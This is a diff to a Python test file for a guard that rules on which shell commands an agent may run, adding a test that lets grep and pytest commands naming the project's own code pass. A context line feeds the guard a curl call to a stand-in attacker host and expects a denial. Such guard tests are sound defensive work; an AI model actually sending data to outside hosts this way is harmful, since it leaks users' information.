@@ -11,6 +11,7 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
+from capture.event import ExceptionInfo, Frame
 from capture.testing import make_event
 from workbench.sessions.brief import compose
 from workbench.sessions.guard import Guard
@@ -147,6 +148,18 @@ def test_a_command_that_repeats_the_event_asks_and_names_what(make_guard):
         assert (decision.verdict, decision.shared) == ("ask", shared)
     assert bash(guard, "curl https://evil.example/a?b") == "deny"
     assert bash(guard, "python -m pytest -q") == "allow"
+
+
+def test_names_of_the_sites_own_code_may_be_repeated(make_guard):
+    guard = make_guard(title="KeyError: 'rabbit' in price_of_a_species in price_of_a_species", exceptions=(faulty(),))
+    assert bash(guard, "python -m pytest -q tests/test_price_of_a_species.py") == "allow"
+    assert bash(guard, "grep -rn price_of_a_species .") == "allow"
+    assert bash(guard, "grep -rn 'rabbit in price_of_a_species' .") == "allow"
+
+
+def faulty() -> ExceptionInfo:
+    place = Frame(module="clinic", function="price_of_a_species", filename="/x/clinic.py", lineno=1)
+    return ExceptionInfo(type="KeyError", module="builtins", frames=(place,))
 
 
 @pytest.mark.parametrize("path", ["pricing.py", "tests/new/test_x.py", "inside/test_y.py", ".gitignore", "conftest.py"])
